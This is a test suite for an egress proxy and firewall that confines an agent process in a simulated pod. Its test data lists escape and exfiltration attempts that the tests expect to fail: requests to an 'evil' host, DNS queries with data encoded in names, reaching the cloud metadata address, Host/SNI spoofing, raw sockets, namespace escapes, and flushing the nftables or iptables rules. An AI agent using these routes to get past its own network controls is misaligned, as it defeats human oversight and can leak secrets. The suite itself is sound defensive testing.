// What gets out of the pod, and what does not: each attempt with what it got and what reached the outside.
import { once } from 'node:events'
import { watch } from 'node:fs'
import { chmod, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { execute } from '../support/execute.ts'
import { missing } from '../support/programs.ts'
import { addresses, users } from './addresses.ts'
import { whyNot } from './namespaces.ts'
import { canary, program, SimulatedPod } from './simulated.ts'

const reason = whyNot() ?? missing('Python', ['/usr/bin/python3', '-c', 'import ssl'])
if (reason !== undefined) console.log(`The simulated pod is left out: ${reason}.`)

const goClient = `package main

import (
	"io"
	"net/http"
	"os"
)

func main() {
	answer, err := http.Get(os.Args[1])
	if err != nil {
		panic(err)
	}
	io.Copy(os.Stdout, answer.Body)
}
`
const node = [process.execPath, '--disable-warning=ExperimentalWarning', '-e']
const { api, api6, evil, evil6, metadata, metadata6 } = addresses

describe.skipIf(reason !== undefined)('in the pod', () => {
  let pod: SimulatedPod

  beforeAll(async () => {
    pod = await SimulatedPod.make()
  })
  afterAll(async () => {
    await pod?.[Symbol.asyncDispose]()
  })
  beforeEach(() => void pod.reached())

  const curl = (...args: readonly string[]) => pod.agent(['curl', '-sS', '--max-time', '10', ...args])
  /** But the proxy’s own questions for a host that may be reached. */
  const nothingOutside = () => expect(pod.reached().filter(({ name }) => name !== 'api.example')).toEqual([])

  describe('before there are rules', () => {
    it('whatever the agent sends reaches the outside, so that the attempts below mean something', async () => {
      expect((await curl(`http://${evil}/`)).out).toContain('from outside')
      expect(await pod.attempt('udp', evil, 443)).toBe('sent')
      expect(await pod.attempt('udp', evil6, 9_999)).toBe('sent')
      expect(await pod.attempt('tcp', evil, 22)).toContain('220 outside')
      expect((await curl(`http://${metadata}/latest/`)).out).toContain('from outside')
      expect((await curl(`http://[${metadata6}]/latest/`)).out).toContain('from outside')
      expect(pod.reached().length).toBeGreaterThanOrEqual(6)
    })

    it('verify says so', async () => {
      const { code, out } = await pod.capture('verify', '--as', String(users.agent))
      expect(out).toContain('There is a way past the proxy.')
      expect(code).toBe(1)
    })
  })

  describe('while the rules are put there', () => {
    it('a connection of before is cut off with them', async () => {
      const [open, go] = ['open', 'go'].map((name) => join(pod.path, 'shared', name)) as [string, string]
      await writeFile(open, '', { flag: 'wx' }).then(() => chmod(open, 0o666))
      const made = once(watch(open), 'change')
      const attempt = pod.attempt('held', evil, open, go)
      await made
      expect(await pod.capture('install', '--uid', '1337')).toMatchObject({ code: 0 })
      await writeFile(go, '')
      expect(await attempt).toMatch(/^(ECONNRESET|EPERM|ECONNREFUSED|TimeoutError|ETIMEDOUT)$/)
      expect(pod.reached().filter(({ by }) => by === 'http')).toEqual([])
      await pod.capture('remove')
      await Promise.all([rm(open), rm(go)])
    })

    it('an agent may not, and is told what is missing', async () => {
      const { code, errors } = await pod.agent([process.execPath, program, 'capture', 'install', '--uid', '1337'])
      expect(errors).toContain('needs the capability NET_ADMIN')
      expect(code).toBe(77)
    })

    it('a dry run prints them and changes nothing', async () => {
      const { code, out } = await pod.capture('install', '--uid', '1337', '--dry-run')
      expect(out).toContain('table inet postern {')
      expect(out).toContain('+\t\tmeta skuid 1337 return')
      expect(code).toBe(0)
      expect((await pod.capture('status')).out).toContain('No rules of ours are in force')
    })

    it('NET_ADMIN alone is enough, and once more changes nothing', async () => {
      expect(await pod.capture('install', '--uid', '1337')).toMatchObject({ code: 0, errors: '' })
      const again = await pod.capture('install', '--uid', '1337')
      expect(again.out).toContain('in force already')
    })

    it('and before the proxy is there, everything of the agent is refused at once', async () => {
      expect(await pod.attempt('tcp', evil, 22)).toBe('ECONNREFUSED')
      expect(await pod.attempt('tcp', evil6, 22)).toBe('ECONNREFUSED')
      expect((await curl('--resolve', `api.example:443:${api}`, 'https://api.example/v1/a')).code).toBe(7)
      expect(await pod.attempt('dns', evil, 'api.example', 1)).toBe('ECONNREFUSED')
      nothingOutside()
    })
  })

  describe('with the proxy', () => {
    beforeAll(() => pod.startProxy())

    describe('a call that is allowed, without any variable but those of trust,', () => {
      const calls: Record<string, readonly string[]> = {
        curl: ['curl', '-sS', 'https://api.example/v1/curl'],
        python: [
          '/usr/bin/python3',
          '-c',
          "import urllib.request as u; print(u.urlopen('https://api.example/v1/python').read())",
        ],
        node: [...node, "fetch('https://api.example/v1/node').then((r) => r.text()).then(console.log)"],
      }
      if (missing('Java', ['java', '-version']) === undefined)
        calls.java = [
          'java',
          fileURLToPath(new URL('../support/Fetch.java', import.meta.url)),
          'https://api.example/v1/java',
        ]
      it.each(Object.keys(calls))('by %s gets its credential, and is recorded', async (name) => {
        const { out, errors } = await pod.agent(calls[name] ?? [])
        expect(out, errors + pod.proxyLog).toContain('from outside')
        expect(pod.reached()).toContainEqual(
          expect.objectContaining({ by: 'http', url: `/v1/${name}`, authorization: `Bearer ${canary}` }),
        )
        const record = await pod.record(({ request }) => request?.path === `/v1/${name}`)
        expect(record).toMatchObject({
          outcome: 'allowed',
          listener: 'pod',
          caller: { spiffe_id: 'spiffe://acme.example/agent', uid: users.agent, proofs: ['kernel'] },
          connection: { original: { address: api, port: 443 } },
          decision: { rule: 'agent-uses-the-api' },
          credential: { name: 'key' },
        })
        expect(record.findings).toBeUndefined()
      })

      it('by Go gets its credential, and is recorded', async ({ skip }) => {
        const lacking = missing('Go', ['go', 'version'])
        if (lacking !== undefined) return skip(lacking)
        await writeFile(join(pod.path, 'client.go'), goClient)
        const { PATH = '', HOME = '/root', GOROOT, GOCACHE } = process.env
        const environment = { PATH, HOME, ...(GOROOT && { GOROOT }), ...(GOCACHE && { GOCACHE }), CGO_ENABLED: '0' }
        const built = await execute('go', ['build', '-o', 'client', 'client.go'], { cwd: pod.path, environment })
        expect(built.code, built.errors).toBe(0)
        const { out } = await pod.agent([join(pod.path, 'client'), 'https://api.example/v1/go'])
        expect(out).toContain('from outside')
        await pod.record(({ request }) => request?.path === '/v1/go')
      }, 120_000)

      it('by git gets its credential, and is recorded', async () => {
        // What is there is no repository; the question has come through all the same.
        await pod.agent(['git', 'ls-remote', 'https://api.example/v1/git'])
        expect(pod.reached()).toContainEqual(
          expect.objectContaining({
            by: 'http',
            authorization: `Bearer ${canary}`,
            url: '/v1/git/info/refs?service=git-upload-pack',
          }),
        )
        await pod.record(({ request }) => request?.path === '/v1/git/info/refs')
      })

      it('over IPv6 is the same', async () => {
        const { out, errors } = await curl('--resolve', `api.example:443:[${api6}]`, 'https://api.example/v1/six')
        expect(out, errors).toContain('from outside')
        expect(await pod.record(({ request }) => request?.path === '/v1/six')).toMatchObject({
          listener: 'pod6',
          caller: { uid: users.agent },
          connection: { original: { address: api6, port: 443 } },
        })
      })

      it('from a v6 socket to a v4 address is the same', async () => {
        const script = `const s = require('tls').connect({ socket: require('net').connect(443, '::ffff:${api}'), servername: 'api.example' })
          s.write('GET /v1/mapped HTTP/1.1\\r\\nHost: api.example\\r\\nConnection: close\\r\\n\\r\\n'); s.pipe(process.stdout)`
        const { out, errors } = await pod.agent([...node, script])
        expect(out, errors).toContain('from outside')
        expect(await pod.record(({ request }) => request?.path === '/v1/mapped')).toMatchObject({
          caller: { uid: users.agent },
          connection: { original: { address: api } },
        })
      })

      it('in clear goes by its Host', async () => {
        expect((await curl('http://api.example/open/a')).out).toContain('from outside')
        expect(pod.reached().filter(({ by }) => by === 'http')).toMatchObject([{ url: '/open/a', reached: api }])
      })

      it('in pieces of one byte of its ClientHello is the same', async () => {
        const script = `const net = require('net'), tls = require('tls')
          const far = net.connect(443, '${api}'); far.setNoDelay(true)
          const near = net.createServer((s) => { s.on('data', async (b) => { s.pause(); for (const x of b) { far.write(Buffer.from([x])); await new Promise(setImmediate) } s.resume() }); far.pipe(s) })
          near.listen(0, '127.0.0.1', () => {
            const s = tls.connect({ port: near.address().port, host: '127.0.0.1', servername: 'api.example' })
            s.write('GET /v1/pieces HTTP/1.1\\r\\nHost: api.example\\r\\nConnection: close\\r\\n\\r\\n'); s.pipe(process.stdout); s.on('close', () => process.exit())
          })`
        const { out, errors } = await pod.agent([...node, script])
        expect(out, errors).toContain('from outside')
      })

      it('to a host that is opaque goes by the name for which its address was given out', async () => {
        const script = `require('net').connect(22, 'mail.example').pipe(process.stdout)`
        expect((await pod.agent([...node, script])).out).toContain('220 outside')
        expect(await pod.record(({ destination }) => destination?.name === 'relay')).toMatchObject({
          kind: 'tunnel',
          destination: { host: 'mail.example', address: addresses.mail },
        })
      })

      it('reaches the proxy itself by its reserved name', async () => {
        const { out, errors } = await curl('https://postern.internal/v1/nothing')
        expect(JSON.parse(out), errors).toMatchObject({
          status: 404,
          title: expect.stringContaining('There is nothing here'),
        })
      })

      it('is known by each of its connections, also where one source port has several destinations at once', async () => {
        const four = [api, addresses.mail, evil, '192.0.2.1', '192.0.2.2', '192.0.2.3', '192.0.2.4', '192.0.2.5']
        expect(await pod.attempt('same_port', addresses.pod, ...four)).toBe(four.map(() => '200').join(' '))
        const six = [api6, evil6, '2001:db8::1', '2001:db8::2']
        expect(await pod.attempt('same_port', addresses.pod6, ...six)).toBe(six.map(() => '200').join(' '))
      })

      it('asks the proxy for names, and the proxy the pod’s resolver', async () => {
        expect(await pod.attempt('dns', evil, 'www.wild.example', 1)).toBe('code 0, 1 answers')
        expect(await pod.attempt('dnstcp', evil6, 'api.example', 28)).toBe('code 0, 1 answers')
        const asked = pod.reached()
        expect(new Set(asked.map(({ name }) => name))).toEqual(new Set(['www.wild.example', 'api.example']))
        expect(asked.every(({ reached }) => reached === addresses.gateway)).toBe(true)
      })

      it('to an address and port that are listed as opaque is passed on unseen', async () => {
        expect(await pod.attempt('tcp', api, 2_222)).toContain('220 outside')
        expect(await pod.record(({ destination }) => destination?.name === 'mail')).toMatchObject({
          kind: 'tunnel',
          destination: { name: 'mail', host: api },
        })
      })
    })

    describe('an agent that lies', () => {
      it('with an allowed name at a hostile address reaches the name’s own address, and it is a finding', async () => {
        const { out } = await curl('--resolve', `api.example:443:${evil}`, 'https://api.example/v1/lie')
        expect(out).toContain('from outside')
        expect(pod.reached().map(({ reached }) => reached)).not.toContain(evil)
        expect(await pod.record(({ request }) => request?.path === '/v1/lie')).toMatchObject({
          destination: { address: api },
          findings: [{ kind: 'address_mismatch', where: 'connection', note: `connected to ${evil}` }],
        })
      })

      it('with a name that no rule allows is refused with an alert, and nothing leaves', async () => {
        const { errors } = await curl('--resolve', `forbidden.example:443:${api}`, 'https://forbidden.example/')
        expect(errors).toContain('alert access denied')
        nothingOutside()
        expect(await pod.record(({ destination }) => destination?.host === 'forbidden.example')).toMatchObject({
          kind: 'connection',
          refusal: { reason: 'no_rule' },
        })
      })

      it('with an allowed server name and another Host is refused', async () => {
        const { out } = await curl('-H', 'Host: forbidden.example', 'https://api.example/v1/a')
        expect(JSON.parse(out)).toMatchObject({ reason: 'misdirected' })
        nothingOutside()
      })

      it('as another user of the pod is that user', async () => {
        const { errors } = await pod.agent(['curl', '-sS', 'https://api.example/v1/a'], users.sidekick)
        expect(errors).toContain('alert access denied')
        nothingOutside()
      })

      it('as a user whom nobody knows is refused', async () => {
        await pod.agent(['curl', '-sS', 'https://api.example/v1/a'], 4_711)
        nothingOutside()
        await pod.record(({ refusal }) => refusal?.reason === 'unidentified_caller')
      })
    })

    describe('an attempt', () => {
      const refusedByProxy = /^(ECONNRESET|answered b'')$/
      const attempts: readonly (readonly [
        what: string,
        name: string,
        args: readonly (string | number)[],
        got: string | RegExp,
      ])[] = [
        ['TCP to an address, without a name', 'tcp', [evil, 443], refusedByProxy],
        ['TCP to an address over IPv6', 'tcp', [evil6, 443], refusedByProxy],
        ['TCP to an address as v4-mapped v6', 'mapped', [evil, 443], refusedByProxy],
        ['TCP to port 22', 'tcp', [evil, 22], refusedByProxy],
        ['DNS over TLS', 'tcp', [evil, 853], refusedByProxy],
        ['DNS over TCP to a resolver elsewhere', 'tcp', [evil, 53], refusedByProxy],
        ['something that is not DNS to port 53', 'udp', [evil, 53], 'sent'],
        ['something that is not DNS to port 53 over IPv6', 'udp', [evil6, 53], 'sent'],
        ['DNS of a name that nobody may reach', 'dns', [evil, 'forbidden.example', 1], 'code 3, 0 answers'],
        ['DNS of it over IPv6', 'dns', [evil6, 'forbidden.example', 28], 'code 3, 0 answers'],
        ['DNS of it over TCP', 'dnstcp', [evil, 'forbidden.example', 1], 'code 3, 0 answers'],
        [
          'DNS of it from the pod’s own resolver',
          'dns',
          [addresses.gateway, 'forbidden.example', 1],
          'code 3, 0 answers',
        ],
        ['DNS TXT of an allowed name', 'dns', [evil, 'api.example', 16], 'code 0, 0 answers'],
        ['DNS NULL of an allowed name', 'dns', [evil, 'www.wild.example', 10], 'code 0, 0 answers'],
        [
          'DNS of data in a name',
          'dns',
          [evil, 'mzxw6ytboi4dsmjrgi3tonzrgazdgnbv.wild.example', 1],
          'code 3, 0 answers',
        ],
        ['DNS of data in labels', 'dns', [evil, 'se.cr.et.va.lue.wild.example', 1], 'code 3, 0 answers'],
        ['QUIC', 'udp', [evil, 443], 'EPERM'],
        ['QUIC over IPv6', 'udp', [evil6, 443], 'EPERM'],
        ['UDP to any port', 'udp', [evil, 9_999], 'EPERM'],
        ['UDP to the API itself', 'udp', [api, 443], 'EPERM'],
        ['UDP bound to the interface', 'device', [evil], 'EPERM'],
        ['UDP-Lite', 'udplite', [evil], /^(EPERM|EPROTONOSUPPORT|ESOCKTNOSUPPORT)$/],
        ['SCTP', 'sctp', [evil], /^(EPERM|EPROTONOSUPPORT|ESOCKTNOSUPPORT|ETIMEDOUT|TimeoutError)$/],
        ['ping', 'ping', [evil], 'EPERM'],
        ['the metadata address', 'tcp', [metadata, 80], 'ECONNREFUSED'],
        ['the metadata address as v4-mapped v6', 'mapped', [metadata, 80], 'ECONNREFUSED'],
        ['the metadata address over IPv6', 'tcp', [metadata6, 80], 'ECONNREFUSED'],
        ['the metadata address by NAT64', 'tcp', ['64:ff9b::a9fe:a9fe', 80], 'ECONNREFUSED'],
        ['the metadata address by UDP', 'udp', [metadata, 9_999], 'EPERM'],
        ['a raw socket', 'raw', [], 'EPERM'],
        ['a raw IPv6 socket', 'raw6', [], 'EPERM'],
        ['a packet socket', 'packet', [], 'EPERM'],
        ['a mark on its packets', 'mark', [], 'EPERM'],
        ['a transparent socket', 'transparent', [], 'EPERM'],
        ['becoming the proxy’s user', 'setuid', [], 'EPERM'],
        ['a connection to the proxy itself', 'tcp', ['127.0.0.1', 15_001], refusedByProxy],
        ['a connection to the proxy itself over IPv6', 'tcp', ['::1', 15_001], refusedByProxy],
        ['a connection to the proxy at the pod’s address', 'tcp', [addresses.pod, 15_001], 'ECONNREFUSED'],
      ]
      it.each(attempts)('is %s, and fails', async (_what, name, args, got) => {
        const answer = await pod.attempt(name, ...args)
        if (typeof got === 'string') expect(answer).toBe(got)
        else expect(answer).toMatch(got)
        nothingOutside()
      })

      it('is the metadata address by HTTP, and by name of an allowed host, and fails', async () => {
        expect((await curl(`http://${metadata}/latest/meta-data/`)).code).toBe(7)
        expect((await curl('--resolve', `api.example:80:${metadata}`, 'http://api.example/open/a')).code).toBe(7)
        nothingOutside()
      })

      it('is a name that resolves to the metadata address, and fails', async () => {
        expect((await curl('http://rebound.wild.example/latest/')).code).toBe(7)
        const { out } = await curl(
          '--resolve',
          `rebound.wild.example:80:${evil}`,
          'http://rebound.wild.example/latest/',
        )
        expect(JSON.parse(out)).toMatchObject({ reason: 'blocked_address' })
        expect(pod.reached().filter(({ by }) => by !== 'dns')).toEqual([])
      })

      it('is taking the rules away, and fails', async () => {
        for (const command of [
          ['nft', 'flush', 'ruleset'],
          ['nft', 'delete', 'table', 'inet', 'postern'],
          ['iptables', '-F'],
          [process.execPath, program, 'capture', 'remove'],
          ['ip', 'link', 'set', 'eth0', 'down'],
        ]) {
          const { code, errors } = await pod.agent(command)
          expect(errors, command.join(' ')).toMatch(/not permitted|denied|needs the capability|must be root/)
          expect(code).not.toBe(0)
        }
        expect((await pod.capture('status')).out).toContain('The rules are in force')
      })

      it('is a namespace of its own, and leads nowhere', async () => {
        const { out, errors } = await pod.agent([
          'unshare',
          '-Urn',
          'curl',
          '-sS',
          '--max-time',
          '3',
          `http://${evil}/`,
        ])
        expect(out).toBe('')
        expect(errors).not.toBe('')
        nothingOutside()
      })

      it('is made from a container inside the pod, and fails', async () => {
        const inside = `unshare -n sh -c '
            echo $$; ip link set lo up; while ! ip link show inner; do sleep 0.02; done >/dev/null 2>&1
            ip addr add 10.77.0.2/24 dev inner; ip link set inner up; ip route add default via 10.77.0.1
            curl -sS --max-time 2 http://${evil}/ 2>&1' > ${pod.path}/inside &
          while ! [ -s ${pod.path}/inside ]; do sleep 0.02; done
          sysctl -qw net.ipv4.ip_forward=1
          ip link add outer type veth peer name inner netns $(head -1 ${pod.path}/inside)
          ip addr add 10.77.0.1/24 dev outer; ip link set outer up; wait
          ip link del outer; cat ${pod.path}/inside`
        expect(pod.privileged(['sh', '-c', inside])).toMatch(/timed out|unreachable/i)
        nothingOutside()
        expect(JSON.parse((await pod.capture('status', '--json')).out).counts.forwarded).toBeGreaterThan(0)
      })

      it('is having the proxy call itself, and ends at once', async () => {
        const before = (await pod.records()).length
        await pod.attempt('tcp', '127.0.0.1', 15_001)
        const record = await pod.record(({ refusal }) => refusal?.reason === 'self_request')
        expect(record.kind).toBe('connection')
        expect((await pod.records()).length).toBeLessThan(before + 10)
      })
    })

    it('the attempts are counted, and verify finds nothing', async () => {
      const { out } = await pod.capture('status', '--json')
      const { rules, escapeAttempts, counts } = JSON.parse(out)
      expect(rules).toBe('in force')
      expect(escapeAttempts).toBeGreaterThanOrEqual(10)
      expect(counts.quic).toBeGreaterThanOrEqual(3)
      expect(counts.past_tcp).toBe(0)
      expect((await pod.capture('status', '--prometheus')).out).toMatch(
        /postern_escape_attempts_total\{kind="quic"\} [3-9]/,
      )
      const verified = await pod.capture('verify', '--as', String(users.agent))
      expect(verified.out).toContain('gets past the proxy.')
      expect(verified.code).toBe(0)
    })

    it('rules that somebody altered are found, and put right by installing them again', async () => {
      pod.privileged(['nft', 'insert', 'rule', 'inet', 'postern', 'others', 'accept'])
      expect((await pod.capture('verify')).code).toBe(1)
      expect((await pod.capture('install', '--uid', '1337')).code).toBe(0)
      expect((await pod.capture('verify')).code).toBe(0)
    })
  })

  describe('when the proxy is killed', () => {
    beforeAll(() => pod.killProxy())

    it.each([
      ['TCP', ['tcp', evil, 443], 'ECONNREFUSED'],
      ['TCP over IPv6', ['tcp', evil6, 443], 'ECONNREFUSED'],
      ['UDP', ['udp', evil, 443], 'EPERM'],
      ['the metadata address', ['tcp', metadata, 80], 'ECONNREFUSED'],
    ] as const)('%s is refused at once', async (_what, [name, ...args], got) => {
      const began = performance.now()
      expect(await pod.attempt(name, ...args)).toBe(got)
      expect(performance.now() - began).toBeLessThan(4_000)
      nothingOutside()
    })

    it('the proxy’s user alone reaches the outside', async () => {
      expect((await pod.agent(['curl', '-sS', `http://${evil}/`], users.proxy)).out).toContain('from outside')
    })
  })

  it('when the rules are removed, nothing of ours is left and nothing else is gone', async () => {
    pod.privileged(['nft', 'add', 'table', 'inet', 'somebodys'])
    expect((await pod.capture('remove')).code).toBe(0)
    expect(pod.privileged(['nft', 'list', 'tables'])).toBe('table inet somebodys\n')
    expect((await curl(`http://${evil}/`)).out).toContain('from outside')
  })
})
